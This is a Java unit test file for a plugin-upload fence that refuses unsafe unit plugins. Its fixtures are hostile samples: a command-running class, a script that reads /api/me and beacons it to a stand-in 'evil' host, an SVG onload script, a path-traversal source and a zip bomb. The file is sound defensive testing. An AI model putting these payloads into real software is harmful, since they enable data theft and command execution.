package cn.edu.cumt.union.core.internal.plugin;

import static org.junit.Assert.assertEquals;
import static org.junit.Assert.assertFalse;
import static org.junit.Assert.assertTrue;
import static org.junit.Assert.fail;

import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.jar.Manifest;

import org.junit.ClassRule;
import org.junit.Test;
import org.junit.rules.TemporaryFolder;

import cn.edu.cumt.union.api.rest.ApiException;

/** The fence as the installer runs it: scan, read, then the rules with the contents' problems. */
public class UnitPluginFenceTest {

    @ClassRule
    public static final TemporaryFolder FOLDER = new TemporaryFolder();

    private static final PluginRules RULES = new PluginRules(Arrays.asList(FenceJars.defaults().unit_allowed_imports()));
    private static final PluginRules.Uploader UNIT_ADMIN = new PluginRules.Uploader(false, false, true);
    private static final PluginRules.Uploader OPERATOR = new PluginRules.Uploader(true, false, false);

    @Test
    public void aUnitPluginThatRunsCommandsIsRefusedWithTheClassAndTheReference() throws Exception {
        byte[] jar = FenceJars.jar(FenceJars.unitManifest(), evilClasses());
        ApiException refused = refused(jar, UNIT_ADMIN);
        assertEquals(400, refused.status());
        assertEquals("plugin.refused", refused.code());
        String details = String.join("\n", refused.details());
        assertTrue(details, details.contains(FenceJars.PACKAGE + ".Shell -> java.lang.Runtime#exec"));
        assertTrue(details, details.contains("不允许的引用 / reference not allowed"));
    }

    @Test
    public void theUnionsOwnPluginsAreNotFenced() throws Exception {
        Manifest manifest = FenceJars.unitManifest();
        manifest.getMainAttributes().remove(new java.util.jar.Attributes.Name("Union-Plugin-Unit"));
        byte[] jar = FenceJars.jar(manifest, evilClasses());
        assertEquals(PluginRules.Action.INSTALL, check(jar, OPERATOR));
    }

    @Test
    public void aCleanUnitPluginPasses() {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        entries.put("META-INF/persistence.xml", FenceJars.utf8(TestJars.persistence("union-plugin-outing")));
        assertEquals(PluginRules.Action.INSTALL, check(FenceJars.jar(FenceJars.unitManifest(), entries), UNIT_ADMIN));
    }

    @Test
    public void aUnitPluginBombIsKnownForOneBeforeItIsRead() {
        FenceJars.RawZip zip = new FenceJars.RawZip();
        zip.add("META-INF/MANIFEST.MF", FenceJars.manifestBytes(FenceJars.unitManifest()));
        zip.entries.add(FenceJars.RawZip.bomb("bomb.txt", 256L << 20));
        JarIntegrity.Scan scan = FenceJars.fence().scan(zip.bytes());
        // the installer refuses it here, before PluginJar.read would inflate it
        assertFalse(scan.complete());
        assertEquals(Boolean.TRUE, scan.declaresUnitPlugin());
    }

    /** The declarative pages a unit plugin may bring. */
    static final String UNIT_PAGES = "{\"title\":{\"zh\":\"家庭日\",\"en\":\"Family day\"},\"pages\":[{\"id\":\"list\","
            + "\"kind\":\"list\",\"roles\":[\"member\"],\"menu\":true,\"title\":{\"zh\":\"活动\",\"en\":\"Activities\"},"
            + "\"source\":\"activities\",\"columns\":[{\"field\":\"title\",\"label\":{\"zh\":\"名称\",\"en\":\"Title\"}}]}]}";

    private static byte[] unitJarWith(Map<String, String> files) {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        entries.put("META-INF/persistence.xml", FenceJars.utf8(TestJars.persistence("union-plugin-outing")));
        files.forEach((name, text) -> entries.put(name, FenceJars.utf8(text)));
        return FenceJars.jar(FenceJars.unitManifest(), entries);
    }

    @Test
    public void aUnitPluginWithDeclarativePagesPasses() {
        assertEquals(PluginRules.Action.INSTALL, check(unitJarWith(Map.of("UI-INF/pages.json", UNIT_PAGES)), UNIT_ADMIN));
    }

    @Test
    public void aUnitPluginMayBringNoScriptOrOtherFileForTheWebApp() {
        Map<String, String> files = new LinkedHashMap<>();
        files.put("UI-INF/pages.json", UNIT_PAGES);
        files.put("UI-INF/pages/steal.js", "fetch('/api/me').then(r => r.text()).then(t => navigator.sendBeacon('//evil', t))");
        files.put("UI-INF/index.html", "<script src=pages/steal.js></script>");
        files.put("UI-INF/logo.svg", "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>");
        files.put("ui-inf/Other.CSS", "body{}");
        String details = String.join("\n", refused(unitJarWith(files), UNIT_ADMIN).details());
        for (String name : List.of("UI-INF/pages/steal.js", "UI-INF/index.html", "UI-INF/logo.svg", "ui-inf/Other.CSS")) {
            assertTrue(details, details.contains(name + ": a unit plugin may have only pages.json under UI-INF/"));
        }
    }

    @Test
    public void aUnitPluginsPagesMustBeValidAndDataOnly() {
        String module = UNIT_PAGES.replace("]}]}", "]},{\"id\":\"x\",\"kind\":\"module\",\"roles\":[\"member\"],"
                + "\"module\":\"pages/x.js\"}]}");
        String details = String.join("\n", refused(unitJarWith(Map.of("UI-INF/pages.json", module)), UNIT_ADMIN).details());
        assertTrue(details, details.contains("a unit plugin may declare data pages only, no script (module)"));
        String escape = UNIT_PAGES.replace("\"activities\"", "\"../../auth/password\"");
        details = String.join("\n", refused(unitJarWith(Map.of("UI-INF/pages.json", escape)), UNIT_ADMIN).details());
        assertTrue(details, details.contains("$.pages[0].source: must be a path relative to /api/<plugin-id>/"));
        details = String.join("\n", refused(unitJarWith(Map.of("UI-INF/pages.json", "{")), UNIT_ADMIN).details());
        assertTrue(details, details.contains("UI-INF/pages.json: not a valid page declaration"));
    }

    private static Map<String, byte[]> evilClasses() throws Exception {
        return FenceJars.compile(FOLDER.newFolder().toPath(), Map.of("Shell",
                "public class Shell { public void run(String command) throws Exception { Runtime.getRuntime().exec(command); } }"));
    }

    private static PluginRules.Action check(byte[] bytes, PluginRules.Uploader uploader) {
        UnitPluginFence fence = FenceJars.fence();
        JarIntegrity.Scan scan = fence.scan(bytes);
        PluginJar jar = PluginJar.read(bytes);
        List<String> contents = jar.unitPlugin() ? fence.problems(scan, jar.manifest()) : List.of();
        return RULES.check(jar, uploader, true, Optional.empty(), Optional.empty(), contents);
    }

    private static ApiException refused(byte[] bytes, PluginRules.Uploader uploader) {
        try {
            check(bytes, uploader);
        } catch (ApiException refused) {
            return refused;
        }
        fail("not refused");
        return null;
    }
}
